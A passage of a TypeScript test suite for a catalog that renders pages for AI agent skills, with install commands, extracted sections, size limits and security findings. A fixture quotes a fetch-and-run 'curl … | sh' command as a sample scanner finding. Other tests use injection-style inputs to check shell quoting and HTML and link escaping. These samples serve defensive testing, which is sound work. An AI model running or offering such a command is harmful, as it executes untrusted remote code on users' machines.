import { Marked } from 'marked'
import { describe, expect, test } from 'vitest'
import { CATEGORIES } from '../catalog/categories.ts'
import type { SkillPageSite } from './facts.ts'
import type { Finding, Skill } from '../catalog/skill.ts'
import { synthesizeSkillMd } from '../catalog/front-matter.ts'
import type { Document } from './document.ts'
import { Markdown } from './md.ts'
import { renderTwin } from './markdown.ts'
import { printBlocks } from './print.ts'
import { paragraph } from './tree.ts'
import { PARTS } from '../catalog/parts.ts'
import { renderBlocks } from './html.ts'
import { NO_COMPARISON } from '../../testing/sample-facts.ts'
import { containSections, writeSkillDocument } from './skill-page.ts'
import { installCommand } from './install.ts'

const marked = new Marked({ gfm: true })

const printLine = (words: Document['lead']): string =>
  words instanceof Markdown ? String(words) : printBlocks([paragraph(...words)])

const UPSTREAM: Skill = {
  id: 7,
  slug: 'far-skill',
  name: 'far-skill',
  author: 'Ann',
  description: 'Turns logs into tables. Use when a log must be read by people. Not for traces.',
  summary: 'Turns logs into tables.',
  category: CATEGORIES[2],
  views: 4,
  installs: 2,
  updated: '2026-01-02',
  licence: 'MIT',
  difficulty: 'Intermediate',
  difficultySigns: ['100 characters'],
  safety: 'No findings',
  size: 0,
  hasScripts: false,
  findings: [],
  source: {
    kind: 'upstream',
    url: 'https://github.com/ann/skills/tree/abc123/skills/far-skill',
    status: 'alive',
    checked: '2026-01-03',
    seen: '2026-01-03',
  },
  visibility: 'indexable',
  parts: {},
  folder: '/nowhere',
  files: [
    { path: 'SKILL.md', size: 100 },
    { path: 'references/a b.md', size: 10 },
  ],
}

const FINDING: Finding = {
  rule: 'pipe-to-shell',
  severity: 'high',
  contexts: [],
  file: 'references/a b.md',
  line: 3,
  column: 1,
  length: 4,
  quote: 'curl http://198.51.100.7/x | sh',
  digest: '0123456789abcdef',
  count: 1,
}

const SITE = { origin: 'https://r.example', isCounted: true }

const write = (
  body: string,
  change: Partial<Skill> = {},
  site: Partial<SkillPageSite> = {},
): Document =>
  writeSkillDocument({
    skill: { ...UPSTREAM, ...change },
    skillMd: new TextEncoder().encode(`---\nname: far-skill\ndescription: d\n---\n${body}`),
    comparison: NO_COMPARISON,
    site: { ...SITE, ...site },
  })

const part = (document: Document, id: string): string =>
  String(document.sections.find((section) => section.id === id)?.markdown ?? '')

const readHeadings = (document: Document): string[] =>
  marked
    .lexer(renderTwin(document))
    .flatMap((token) => (token.type === 'heading' && token.depth <= 2 ? [token.text] : []))

const factOf = (document: Document, label: string) =>
  document.facts.concat(document.moreFacts ?? []).find((fact) => fact.label === label)

const alive = (url: string): Skill['source'] => ({ ...UPSTREAM.source, url }) as Skill['source']

describe('a skill page', () => {
  test('has every section of the contract that it can fill, in its order, in its twin', () => {
    const body = PARTS.map(({ heading }) => `## ${heading}\n\n- "Sort my books, please"`)
    const headings = readHeadings(write(body.join('\n\n')))
    expect(headings).toEqual([
      'far-skill',
      'Install',
      'Installation directory',
      'What it brings and needs',
      'Activation',
      'Key capabilities',
      'How it works',
      'You give it',
      'You get back',
      'When to use',
      'About',
      'When not to use',
      'Prerequisites',
      'Limitations',
      'How it compares',
      'Example prompts',
    ])
  })

  test('gives the install command of the contract, to the letter', () => {
    const command =
      'curl -fsSL --create-dirs -o .claude/skills/far-skill.zip "https://r.example/api/skills/download/7" && unzip -o .claude/skills/far-skill.zip -d .claude/skills/far-skill && rm .claude/skills/far-skill.zip'
    expect(installCommand(UPSTREAM, 'https://r.example')).toBe(command)
    expect(part(write(''), 'install')).toContain(`\`\`\`sh\n${command}\n\`\`\``)
  })

  describe('beside the install command', () => {
    const ZIP = { size: 2_048, sha256: 'ab'.repeat(32) }
    const writeInstallPart = (change: Partial<Skill>, name = 'far-skill'): Document =>
      writeSkillDocument({
        skill: { ...UPSTREAM, tokens: 100, ...change },
        skillMd: new TextEncoder().encode(`---\nname: ${name}\ndescription: d\n---\n`),
        zip: ZIP,
        comparison: NO_COMPARISON,
        site: SITE,
      })
    const AT_COMMIT = `https://github.com/ann/skills/tree/${'c'.repeat(40)}/far-skill`

    test('the address of the page installs, and lines check, update and remove', () => {
      const document = writeInstallPart({})
      const install = part(document, 'install')
      expect(install).toContain(
        '```sh\nnpx skills add https://r.example/skills/far-skill -a claude-code\n```',
      )
      for (const line of [
        'mkdir .claude/skills/far-skill && tar -xf .claude/skills/far-skill.zip -C .claude/skills/far-skill',
        `echo "${ZIP.sha256} *far-skill.zip" | sha256sum -c`,
        'npx skills update far-skill',
        'npx skills remove far-skill',
        'rm -r .claude/skills/far-skill',
      ])
        expect(install).toContain(`\`${line}\``)
      expect(install).not.toContain('claude plugin')
      expect(factOf(document, 'Zip')?.value).toBe(`2.0 KiB, SHA-256 ${ZIP.sha256}`)
    })

    test('Claude Code has it as a plugin where it can fetch the source', () => {
      const install = part(writeInstallPart({ source: alive(AT_COMMIT) }), 'install')
      expect(install).toContain(
        '`claude plugin marketplace add https://r.example/categories/data-and-analytics/marketplace.json`',
      )
    })

    test('a name that installers refuse is said, and none of their lines is there', () => {
      const slug = 'a'.repeat(65)
      const install = part(writeInstallPart({ slug }), 'install')
      expect(install).toContain('Its name has 65 characters, and installers refuse names above 64')
      expect(install).toContain(`-o .claude/skills/${slug}.zip`)
      expect(install).not.toContain('npx')
      expect(part(writeInstallPart({ slug: 'a'.repeat(64) }), 'install')).toContain(
        'npx skills add',
      )
    })

    test('a text that is not here is had from its source, whatever that is called', () => {
      const source = alive("https://git.example/a'b;$(c)/skills")
      const install = part(writeInstallPart({ source, tokens: undefined, files: [] }), 'install')
      expect(install).toContain('Its own text is not here')
      expect(install).toContain(
        "```sh\nnpx skills add 'https://git.example/a'\\''b;$(c)/skills'\n```",
      )
      expect(install).not.toMatch(/r\.example\/skills|skills (?:update|remove)/)
      const gone = { ...source, status: 'gone' } as Skill['source']
      const change = { source: gone, tokens: undefined, files: [] }
      expect(part(writeInstallPart({ ...change, visibility: 'gone' }), 'install')).not.toContain(
        'npx',
      )
    })

    test.each([
      ['far-skill', undefined],
      ['"far-skill"', undefined],
      ['Far `Skill', '``Far `Skill``'],
      ['[', undefined],
    ])('a SKILL.md whose name is %s', (name, told) => {
      const directory = part(writeInstallPart({}, name), 'installation-directory')
      const says = /Its SKILL\.md names it (.*), not as its folder: strict validators refuse it\./
      expect(says.exec(directory)?.[1]).toBe(told)
    })
  })

  test('names the parts that the text does not state in one last sentence, each with its anchor', () => {
    const document = write('Just text.', { description: 'Turns logs into tables.' })
    expect(readHeadings(document).slice(4)).toEqual([
      'Activation',
      'About',
      'How it compares',
      'Not stated',
    ])
    expect(part(document, 'not-stated')).toBe(
      'Not stated in the SKILL.md, as far as it was read: Key capabilities, How it works, You give it, You get back, When to use, When not to use, Prerequisites, Limitations, Example prompts.',
    )
    const { html } = renderBlocks(document.sections.at(-1)?.blocks ?? [])
    for (const { id, heading, name } of PARTS) {
      if (name !== 'activation') expect(html).toContain(`<span id="${id}">${heading}</span>`)
    }
  })

  test('names the parts of which a text may speak in the same sentence, with a way to it', () => {
    const document = write(
      '## Scope boundaries\n\nIt goes so far.\n\n## Notes\n\nReaders say "sort it".\n',
      { description: 'Turns logs into tables.' },
    )
    expect(readHeadings(document)).not.toContain('Limitations')
    expect(part(document, 'not-stated')).toMatch(
      /^Not stated in the SKILL\.md, as far as it was read: Key capabilities, .*, Prerequisites; its \[text\]\(#about\) or description may speak of these, but no passage was found to show: Limitations, Example prompts\.$/,
    )
    const { html } = renderBlocks(document.sections.at(-1)?.blocks ?? [])
    expect(html).toContain('<span id="limitations">Limitations</span>')
  })

  test('of a skill whose text is not here, only the description is read', () => {
    const document = write('## Limits\n\nOnly this is not copied here, and requires nothing.\n', {
      files: [],
      description: 'Sorts books, if asked.',
    })
    expect(part(document, 'not-stated')).toMatch(
      /^The SKILL\.md is not here, and its description does not state: .*, Prerequisites, Limitations, Example prompts; its \[description\]\(#activation\) may speak of these, but no passage was found to show: /,
    )
  })

  test('no heading of a text has an anchor that the layout or another section has', () => {
    const headings = ['Content', 'Find', 'Limitations', 'Not stated', 'Content'].join('\n\n# ')
    const { sections } = write(`# ${headings}`)
    const about = sections.find(({ id }) => id === 'about')?.blocks ?? []
    const anchors = Array.from(renderBlocks(about).html.matchAll(/ id="([^"]*)"/g), ([, id]) => id)
    expect(anchors).toEqual(['content-1', 'find-1', 'limitations-1', 'not-stated-1', 'content-2'])
  })

  test('its head is the first sentence; the description stands whole once, under Activation', () => {
    const description = 'Turns logs into tables. Use when a log must be read. Not for _a_ | b.'
    const document = write('Just text.', { description })
    expect(printLine(document.lead)).toBe('Turns logs into tables.')
    expect(document.description).toBe('Turns logs into tables.')
    expect(part(document, 'activation')).toBe(
      'Turns logs into tables. Use when a log must be read. Not for \\_a\\_ | b.',
    )
    expect(readHeadings(document)).not.toContain('When to use')
    const twin = renderTwin(document)
    expect(twin.split('Turns logs into tables. Use when').length).toBe(2)
  })

  test('what a description states has its anchor in Activation and no section that says it again', () => {
    const uses = `Use when ${'a log of many lines '.repeat(5)}must be read.`
    const document = write('Just text.', { description: `Turns logs into tables. ${uses}` })
    expect(readHeadings(document)).not.toContain('When to use')
    expect(part(document, 'not-stated')).not.toContain('When to use')
    const activation = document.sections.find(({ id }) => id === 'activation')
    expect(renderBlocks(activation?.blocks ?? []).html).toMatch(
      /^<p><span id="when-to-use"><\/span>/,
    )
  })

  test("the author's own summary stands at the head", () => {
    const document = write('Just text.', {
      parts: { summary: 'Reads *logs*.' },
      summary: 'Reads *logs*.',
    })
    expect(printLine(document.lead)).toBe('Reads *logs*.')
  })

  test('of a catalog without counters, shows none', () => {
    const document = write('', {}, { isCounted: false })
    expect(factOf(document, 'Installs')).toBeUndefined()
    expect(factOf(document, 'Views')).toBeUndefined()
    expect(part(document, 'how-it-compares')).toMatch(/\| \*\*far-skill\*\* \(this skill\) \| – \|/)
  })

  test('says that a day of change is not known, and when a source was only copied', () => {
    const source: Skill['source'] = { ...UPSTREAM.source, status: 'copied' } as Skill['source']
    const document = write('', { updated: undefined, source })
    expect(factOf(document, 'Updated')?.value).toBe('not known')
    expect(part(document, 'install')).toContain(', copied on 2026-01-03.')
    expect(part(document, 'install')).not.toContain('alive')
    expect(document.updated).toBe('2026-01-03')
  })

  test('says what its difficulty was judged by, or that its author says it', () => {
    expect(factOf(write(''), 'Difficulty')?.value).toBe('Intermediate (100 characters)')
    expect(factOf(write('', { difficultySigns: [] }), 'Difficulty')?.value).toBe(
      'Intermediate (as its author says)',
    )
  })

  test('links to a report and to a request of its author, filled in, where the site has a contact', () => {
    expect(factOf(write(''), 'Wrong?')).toBeUndefined()
    const contact = 'https://tracker.example/new?kind=listing'
    const document = write('', {}, { contact })
    const address = new URL(factOf(document, 'Wrong?')?.path ?? '')
    expect(Object.fromEntries(address.searchParams)).toEqual({
      kind: 'listing',
      title: 'Report: far-skill',
      body: 'https://r.example/skills/far-skill\n\nWhat is wrong with this listing:',
    })
    expect(factOf(document, 'Yours?')?.path).toContain('title=My+skill%3A+far-skill')
  })

  test('shows findings as a section of their own, and says in Install where they are', () => {
    const document = write('', { findings: [FINDING], safety: 'Review' })
    expect(part(document, 'install')).toContain(
      'Safety: **Review**. Read [the findings](#findings)',
    )
    expect(document.sections.map(({ id }) => id).indexOf('findings')).toBe(3)
    expect(part(write('', { tokens: 9 }), 'install')).toContain(
      'Safety: **No findings**. Static rules',
    )
    expect(write('').sections.some(({ id }) => id === 'findings')).toBe(false)
  })

  test('of a gone source says so, is not indexed, and shows the synthesized text', () => {
    const source = { ...UPSTREAM.source, status: 'gone', seen: '2025-12-31' } as Skill['source']
    const skill: Skill = { ...UPSTREAM, source, visibility: 'gone', files: [] }
    const document = writeSkillDocument({
      skill,
      skillMd: new TextEncoder().encode(synthesizeSkillMd(skill)),
      comparison: NO_COMPARISON,
      site: SITE,
    })
    expect(document.isIndexable).toBe(false)
    expect(printLine(document.notice ?? [])).toContain('last seen on 2025-12-31')
    expect(part(document, 'about')).toContain('synthesized from catalog metadata')
    expect(part(document, 'install')).toContain('Its files are not here, so none was scanned.')
    expect(part(write('', { tokens: 9 }), 'install')).not.toContain('none was scanned')
    expect(document.facts.find(({ label }) => label === 'Safety')?.value).toBe('Not scanned')
    expect(part(document, 'not-stated')).toMatch(
      /^The SKILL.md is not here, and its description does/,
    )
  })

  test('has every heading of a text that is nothing else', () => {
    const about = part(write('# a\n'.repeat(75_000)), 'about')
    expect(about.match(/^### a$/gm)).toHaveLength(75_000)
  })

  test('keeps a hostile name in its place', () => {
    const twin = renderTwin(write('', { name: '<img src=x> # [a](javascript:b) | c' }))
    const tokens = marked.lexer(twin)
    expect(tokens[0]).toMatchObject({ type: 'heading', depth: 1 })
    marked.walkTokens(tokens, (token) => {
      expect(token.type).not.toBe('html')
      if (token.type === 'link') expect(token.href).not.toContain('javascript')
    })
  })
})

const from = (heading: string, anchor: string): string => `\n\nFrom [${heading}](#${anchor})`

const step = (name: string): string =>
  `1. ${name} the file:\n\n   \`\`\`sh\n${'   run it\n'.repeat(100)}   \`\`\`\n\n`

const writeWith = (block: string, change: Partial<Skill> = {}, body = 'x'): Document =>
  writeSkillDocument({
    skill: { ...UPSTREAM, ...change },
    skillMd: new TextEncoder().encode(`---\n${block}\n---\n${body}`),
    comparison: NO_COMPARISON,
    site: SITE,
  })

describe('parts are lifted from the SKILL.md', () => {
  const cases: readonly [string, string, string, string][] = [
    [
      'a heading of many words',
      '## When to Use This Skill\n\n- A\n- B\n',
      'when-to-use',
      `- A\n- B${from('When to Use This Skill', 'when-to-use-this-skill')}`,
    ],
    [
      'a heading longer than may stand twice',
      '# T\n\n## Server and the client and the MCP of this one report format\n\n- A table.\n',
      'you-get-back',
      `- A table.${from('Server and the client and the MCP of this one…', 'server-and-the-client-and-the-mcp-of-this-one-report-format')}`,
    ],
    [
      'numbered and decorated',
      '## 3. ⚠️ Limitations:\n\nSlow.\n',
      'limitations',
      `Slow.${from('3. ⚠️ Limitations:', '3-️-limitations')}`,
    ],
    [
      'the name of the skill in a heading',
      '## When to use far-skill\n\n- A\n',
      'when-to-use',
      `- A${from('When to use far-skill', 'when-to-use-far-skill')}`,
    ],
    [
      'a heading inside the text',
      '# T\n\n### Prerequisites\n\nNode.\n\n### Next\n\nX',
      'prerequisites',
      `Node.${from('Prerequisites', 'prerequisites-1')}`,
    ],
    [
      'another language',
      '## Voraussetzungen\n\n- Node 20\n\n## 工作流程\n\n1. 读\n2. 写\n',
      'prerequisites',
      `- Node 20${from('Voraussetzungen', 'voraussetzungen')}`,
    ],
    [
      'a label that says no more than the heading',
      '## When to use\n\n**Context:**\n\n- A\n- B\n',
      'when-to-use',
      `- A\n- B${from('When to use', 'when-to-use-1')}`,
    ],
    [
      'a label among others',
      '## When to use\n\n**Always:**\n\n- A\n\n**Exceptions:**\n\n- B\n',
      'when-to-use',
      `**Always:**\n\n- A\n\n**Exceptions:**\n\n- B${from('When to use', 'when-to-use-1')}`,
    ],
    [
      'boxes to tick above the steps they name',
      '## Workflow\n\n```\nProgress:\n- [ ] Read\n- [ ] Sort\n- [ ] Write\n```\n\n1. Read it\n2. Sort it\n3. Write it\n',
      'how-it-works',
      `1. Read it\n2. Sort it\n3. Write it${from('Workflow', 'workflow')}`,
    ],
    [
      'boxes to tick alone',
      '## Workflow\n\n```\n- [ ] Read\n- [ ] Sort\n- [ ] Write\n```\n',
      'how-it-works',
      `\`\`\`\n- [ ] Read\n- [ ] Sort\n- [ ] Write\n\`\`\`${from('Workflow', 'workflow')}`,
    ],
    [
      'a long step that says nothing without what it announces',
      `## Workflow\n\n1. For each book, define:\n   - Title\n2. Sort:\n   - ${'by title '.repeat(200)}\n`,
      'how-it-works',
      `1. For each book, define:\n   - Title\n2. Sort${from('Workflow', 'workflow')}, more there`,
    ],
    [
      'the name of a step whose text is too long',
      `## Workflow\n\n**Read it**\n\nAll of it.\n\n**Sort it**\n\n${'by title '.repeat(200)}\n`,
      'how-it-works',
      `**Read it**\n\nAll of it.${from('Workflow', 'workflow')}, more there`,
    ],
    [
      'steps that are headings',
      '## Workflow\n\n### Read it\n\nx\n\n### Fix it\n\ny\n',
      'how-it-works',
      `- Read it\n- Fix it${from('Workflow', 'workflow')}`,
    ],
    [
      'headings below a workflow that are no steps',
      '## Workflow\n\nIn order.\n\n### Fast mode\n\nx\n\n### Slow mode\n\ny\n',
      'how-it-works',
      `In order.${from('Workflow', 'workflow')}`,
    ],
    ['nothing below the heading', '## Output\n\n## Other\n\nx', 'you-get-back', ''],
    [
      'a prompt in a fence',
      '## Examples\n\n```\nsort my books\n```\n',
      'example-prompts',
      `\`\`\`\nsort my books\n\`\`\`${from('Examples', 'examples')}`,
    ],
    [
      'a line that introduces a list',
      'Use this skill when:\n\n- A\n\n## Pattern\n\nUse when:\n\n- B\n',
      'when-to-use',
      `- A${from('About', 'about')}`,
    ],
    [
      'such a line inside a section speaks of that section',
      '## Pattern\n\n**Prerequisites:**\n\n- B\n',
      'prerequisites',
      '',
    ],
    [
      'a label and its words on one line',
      '# T\n\n**Input:** a PDF\n**Output:** a table\n\n## Rest\n\nx',
      'you-give-it',
      `**Input:** a PDF${from('T', 't')}`,
    ],
    [
      'the label behind it',
      '# T\n\n**Input:** a PDF\n**Output:** a table\n\n## Rest\n\nx',
      'you-get-back',
      `**Output:** a table${from('T', 't')}`,
    ],
    [
      'a sentence of the whole',
      '# T\n\nThis skill does not read PDF.\n\n## Rest\n\nx',
      'limitations',
      `This skill does not read PDF.${from('T', 't')}`,
    ],
    [
      'what the user is asked for',
      '## Start\n\nBefore writing a page, understand:\n\n- Who reads it?\n- Why?\n',
      'you-give-it',
      `- Who reads it?\n- Why?${from('Start', 'start')}`,
    ],
    [
      'a heading deep inside a section',
      '## Overview of A\n\nx\n\n### Output\n\nTables.\n',
      'you-get-back',
      '',
    ],
    [
      'prerequisites below headings',
      '## Dependencies\n\n### Tools\n\nNode 20 is required.\n\n### a_b and _c_\n\nA.\n',
      'prerequisites',
      `**Tools**\n\nNode 20 is required.\n\n**a_b and \\_c\\_**\n\nA.${from('Dependencies', 'dependencies')}`,
    ],
    [
      'steps of an example',
      '## Example workflow\n\n### Step 1: A\n\nx\n\n### Step 2: B\n\nx\n\n### Step 3: C\n\nx\n',
      'how-it-works',
      '',
    ],
    [
      'steps that have no more than a number',
      '## Workflow\n\n### Step 1\n\nx\n\n### Step 2\n\ny\n\n### Step 3\n\nz\n',
      'how-it-works',
      `**Step 1**\n\nx\n\n**Step 2**\n\ny\n\n**Step 3**\n\nz${from('Workflow', 'workflow')}`,
    ],
    [
      'when to use one thing of many',
      '## Formats\n\nx\n\n### When to use\n\n- After a call\n',
      'when-to-use',
      '',
    ],
    [
      'steps of one thing of many',
      '## Arbitration\n\n### 1. A\n\nx\n\n### 2. B\n\nx\n\n### 3. C\n\nx\n',
      'how-it-works',
      '',
    ],
    [
      'steps that are headings of the whole text',
      '# T\n\n## Step 1: Read\n\nx\n\n## Step 2: Cut\n\nx\n\n## Step 3: Sew\n\nx\n',
      'how-it-works',
      `1. Read\n2. Cut\n3. Sew${from('About', 'about')}`,
    ],
    [
      'steps as boxes to tick',
      '## Workflow\n\nCopy this:\n\n```\n- [ ] Read\n- [ ] Cut\n- [ ] Sew\n```\n',
      'how-it-works',
      `Copy this:\n\n\`\`\`\n- [ ] Read\n- [ ] Cut\n- [ ] Sew\n\`\`\`${from('Workflow', 'workflow')}`,
    ],
    [
      'steps without names are shown whole',
      '## Process\n\n### Step 1\n\nLook.\n\n### Step 2\n\nSort.\n\n### Step 3\n\nWrite.\n',
      'how-it-works',
      '**Step 1**\n\nLook.\n\n**Step 2**\n\nSort.\n\n**Step 3**\n\nWrite.\n\nFrom [Process](#process)',
    ],
    [
      'or not at all',
      `## Process\n\n### Step 1\n\nLook.\n\n### Step 2\n\nSort.\n\n### Step 3\n\n${'Write. '.repeat(400)}\n`,
      'how-it-works',
      '',
    ],
    ['a command alone tells no steps', '## Workflow\n\n```sh\nrun it\n```\n', 'how-it-works', ''],
    [
      'numbered subheadings, and an aside among them',
      '## Capabilities\n\n### 1. Cut\n\nx\n\n### 2. Sew\n\nx\n\n### References\n\nx\n',
      'key-capabilities',
      `1. Cut\n2. Sew${from('Capabilities', 'capabilities')}`,
    ],
    [
      'names of files as they are',
      '## Capabilities\n\n### __init__.py and `a_b`\n\nx\n\n### sort_all_words\n\nx\n',
      'key-capabilities',
      `- \\_\\_init\\_\\_.py and a_b\n- sort_all_words${from('Capabilities', 'capabilities')}`,
    ],
    [
      'code below a heading of examples is no prompt',
      '## Examples\n\n```python\nprint(1)\n```\n\n- "Sort my books"\n',
      'example-prompts',
      `- "Sort my books"${from('Examples', 'examples')}`,
    ],
    ['a placeholder', '## Input\n\n$ARGUMENTS\n', 'you-give-it', ''],
    [
      'a form to fill in',
      '## Limitations\n\n- [Limitation 1]\n- [Limitation 2]\n',
      'limitations',
      '',
    ],
    [
      'a part of a template',
      '## Report template\n\n### Limitations\n\nWhat was not tested.\n',
      'limitations',
      '',
    ],
    [
      'requirements of the result',
      '## Requirements\n\n- Write in short words.\n',
      'prerequisites',
      '',
    ],
    [
      'requirements',
      '## Requirements\n\n- An API key.\n',
      'prerequisites',
      `- An API key.${from('Requirements', 'requirements')}`,
    ],
    [
      'a variable',
      '## Requirements\n\n- Set `CI_TOKEN`\n',
      'prerequisites',
      `- Set \`CI_TOKEN\`${from('Requirements', 'requirements')}`,
    ],
    [
      'requirements of endless words',
      `## Requirements\n\n${`- ${'a'.repeat(60_000)}\n`.repeat(16)}`,
      'prerequisites',
      '',
    ],
    [
      'rules of behaviour are no limits',
      '## Constraints\n\n- Never guess.\n- Always ask.\n',
      'limitations',
      '',
    ],
    [
      'limits',
      '## Constraints\n\n- At most 10 MB a file.\n- Linux only.\n',
      'limitations',
      `- At most 10 MB a file.\n- Linux only.${from('Constraints', 'constraints')}`,
    ],
    ['a role', '## Purpose\n\nYou are an editor.\n', 'key-capabilities', ''],
    [
      'the same as the description says',
      '# T\n\nThis skill turns logs into tables that people read.\n\n## Rest\n\nx',
      'key-capabilities',
      '',
    ],
    [
      'what belongs to another part of one section',
      '## When to use\n\n- A\n\n**Do not use it for:**\n\n- B\n',
      'when-to-use',
      `- A${from('When to use', 'when-to-use-1')}`,
    ],
    [
      'that other part',
      '## When to use\n\n- A\n\n**Do not use it for:**\n\n- B\n',
      'when-not-to-use',
      `- B${from('When to use', 'when-to-use-1')}`,
    ],
    [
      'an item that says when not',
      '## When to use\n\n- A\n- Not for B\n',
      'when-not-to-use',
      `- Not for B${from('When to use', 'when-to-use-1')}`,
    ],
  ]
  test.each(cases)('%s', (_, body, id, expected) => {
    expect(part(write(body), id)).toBe(expected)
  })

  test('a part of a section says nothing of what another part took', () => {
    expect(part(write('## When to use\n\n- A\n- Not for B\n'), 'when-to-use')).not.toContain('B')
  })

  test('a long list is cut between items, and its last line says how many more there are', () => {
    const items = Array.from(
      { length: 30 },
      (_, index) => `- Item ${index} ${'word '.repeat(10)}end`,
    )
    const text = part(write(`## Features\n\n${items.join('\n')}\n`), 'key-capabilities')
    expect(text).toMatch(/end\n\nFrom \[Features\]\(#features\), 10 more there$/)
    expect(text.length).toBeLessThan(2_000)
  })

  test('steps that are long stand without their commands', () => {
    const text = part(
      write(`## Workflow\n\n${step('Read')}${step('Cut')}${step('Sew')}`),
      'how-it-works',
    )
    expect(text).toBe(
      '1. Read the file\n2. Cut the file\n3. Sew the file\n\nFrom [Workflow](#workflow), more there',
    )
  })

  test('a long table is cut between rows', () => {
    const rows = Array.from({ length: 30 }, (_, index) => `| ${index} | ${'word '.repeat(5)} |`)
    const body = `## Features\n\n| a | b |\n|---|---|\n${rows.join('\n')}\n`
    const text = part(write(body), 'key-capabilities')
    expect(text).toMatch(
      /^\| a \| b \|\n[^]*\| 18 \| [^\n]*\n\nFrom \[Features\]\(#features\), 11 more there$/,
    )
  })

  test('an introduction is not left without what it introduces', () => {
    const fence = `\`\`\`\n${'word '.repeat(400)}\n\`\`\``
    const text = part(write(`## Output\n\nWhole.\n\nIt looks so:\n\n${fence}\n`), 'you-get-back')
    expect(text).toBe('Whole.\n\nFrom [Output](#output), more there')
  })

  test('of a list that is cut to less than half nothing stands', () => {
    const items = Array.from({ length: 60 }, (_, index) => `- Item ${index}`)
    expect(part(write(`## Features\n\n${items.join('\n')}\n`), 'key-capabilities')).toBe('')
  })

  test('code is never cut: what does not fit is no part', () => {
    const fence = `\`\`\`\n${'word '.repeat(400)}\n\`\`\``
    expect(part(write(`## Output\n\n${fence}\n`), 'you-get-back')).toBe('')
  })

  test('the line that says whence is set apart in HTML', () => {
    const section = write('## Output\n\nA table.\n').sections.find(
      ({ id }) => id === 'you-get-back',
    )
    expect(renderBlocks(section?.blocks ?? []).html).toBe(
      '<p>A table.</p>\n<p class="whence">From <a href="#output">Output</a></p>\n',
    )
  })

  test('what the front matter states stands before what the description does', () => {
    const document = writeWith(
      'name: far-skill\ndescription: d\ncompatibility: Needs Node.\nargument-hint: "[file] <b>"\nwhen_to_use: On *Mondays*',
      { description: 'Sorts. Requires Perl.' },
    )
    const file = '/skills/far-skill/SKILL.md'
    expect(part(document, 'when-to-use')).toBe(
      `On *Mondays*`.replaceAll('*', '\\*') + `\n\nFrom [when_to_use](${file})`,
    )
    expect(part(document, 'prerequisites')).toBe(`Needs Node.\n\nFrom [compatibility](${file})`)
    expect(part(document, 'you-give-it')).toBe(`\`[file] <b>\`\n\nFrom [argument-hint](${file})`)
  })

  test('what the front matter states stands before what the text does', () => {
    const document = writeWith(
      `name: far-skill
description: d
compatibility: Needs Node (https://node.example).
metadata:
  requires:
    bins: [git, "gh"]
  openclaw: { requires: { env: [FAR_KEY] } }`,
      {},
      '## Prerequisites\n\nInstall Perl.\n',
    )
    const file = '/skills/far-skill/SKILL.md'
    expect(part(document, 'prerequisites')).toBe(
      [
        'Needs Node ([https://node.example](https://node.example)).',
        `From [compatibility](${file})`,
        '- `git`\n- `gh`',
        `From [metadata.requires.bins](${file})`,
        '- `FAR_KEY`',
        `From [metadata.openclaw.requires.env](${file})`,
        'Install Perl.',
        'From [Prerequisites](#prerequisites-1)',
      ].join('\n\n'),
    )
  })

  test('a word of the front matter that only says so names no need', () => {
    const document = writeWith(
      'name: a\ndescription: requires: nothing\nmetadata:\n  requires: git',
    )
    expect(part(document, 'not-stated')).toContain('Prerequisites')
  })

  test('of a template that is too long for a part stand the names of its sections', () => {
    const sections = ['Aims', 'Means', 'Ends'].map(
      (name) => `## ${name}\n\n${'words '.repeat(120)}`,
    )
    const body = `## Output format\n\n\`\`\`markdown\n${sections.join('\n')}\n\`\`\`\n`
    expect(part(write(body), 'you-get-back')).toMatch(/^- Aims\n- Means\n- Ends\n\nFrom/)
    expect(part(write(body.replaceAll('## A', '## [A')), 'you-get-back')).toBe('')
  })

  test.each([
    ['in quotes', 'name: a\n"compat\\u0069bility": Needs Node.'],
    ['in braces', '{ name: a, description: "b \\" c", "compat\\u0069bility": Needs Node. }'],
    ['in braces behind a tag', '!!map { name: a, "compat\\u0069bility": Needs Node. }'],
    ['beside a text with escapes', 'description: "b \\" c"\ncompatibility: Needs Node.'],
  ])('a field of the front matter is found, its name spelt %s', (_, block) => {
    expect(part(writeWith(block), 'prerequisites')).toMatch(/^Needs Node\.\n\nFrom/)
  })

  test.each([
    ['empty lines', '\n'.repeat(400_000)],
    ['lines that only Unicode ends', `${'\u2028'.repeat(400_000)}: \\`],
  ])('a front matter of %s beyond count is no more than a page without fields', (_, block) => {
    expect(part(writeWith(`name: a\n${block}`), 'not-stated')).toContain('Prerequisites')
  })

  test('what the author wrote for the catalog comes first, part by part', () => {
    const document = write('## Features\n\n- From the file\n\n## Output\n\nA table.\n', {
      parts: { capabilities: ['From the *record*', '- b'], activation: 'On *Mondays*.' },
    })
    expect(part(document, 'key-capabilities')).toBe('- From the *record*\n- \\- b')
    expect(part(document, 'you-get-back')).toMatch(/^A table\./)
    expect(part(document, 'activation')).toMatch(/Not for traces\.\n\nOn \*Mondays\*\.$/)
  })

  test('64 KB of tildes before a fence around the text are shown', () => {
    const body = `${'~'.repeat(65_536)}\n\`\`\`md\n# A\n- b\n- c\n${'Words.\n'.repeat(90_000)}\`\`\`\n`
    expect(part(write(`x${body}`), 'about')).toContain('~~~')
  })

  test('headings beyond count below a part are read in time that grows with them', () => {
    const body = `## Workflow\n\n${'### Step 1\n'.repeat(60_000)}`
    expect(part(write(body), 'about')).toContain('### Workflow')
  })
})

const columns = (count: number, cell: string): string => `|${`${cell}|`.repeat(count)}\n`
const table = (width: number, height: number): string =>
  columns(width, 'a') + columns(width, ':-:') + columns(1, 'b').repeat(height)

describe('a page and its twin stay below 4 MB', () => {
  test.each([
    ['9 KB of a table with wide head and short rows', table(900, 1_400), 'a|a'],
    [
      'a table of 200,000 empty cells',
      columns(400, 'a') + columns(400, ':-:') + columns(400, '').repeat(500),
      '||',
    ],
    ['260,000 headings', '# a\n'.repeat(260_000), '# a'],
    ['a heading and its underline, again and again', 'a\n=\n'.repeat(260_000), '='],
    ['hidden characters, which are spelt out', '\u200B'.repeat(340_000), '340000 characters'],
    ['signs that HTML escapes', '&'.repeat(1_000_000), '1000000 characters'],
  ])('%s', (_, body, shown) => {
    const document = write(body)
    const view = JSON.stringify(viewDocument(document, 'https://r.example', 'R', PRINTED))
    expect(Buffer.byteLength(view)).toBeLessThan(4_000_000)
    expect(Buffer.byteLength(renderTwin(document))).toBeLessThan(4_000_000)
    expect(part(document, 'about')).toContain(shown)
  })
})

describe('links of a SKILL.md lead somewhere', () => {
  test.each([
    ['a file we hold', '[a](references/a%20b.md)', '[a](/skills/far-skill/references/a%20b.md)'],
    [
      'a file upstream',
      '[a](scripts/x.py#L3)',
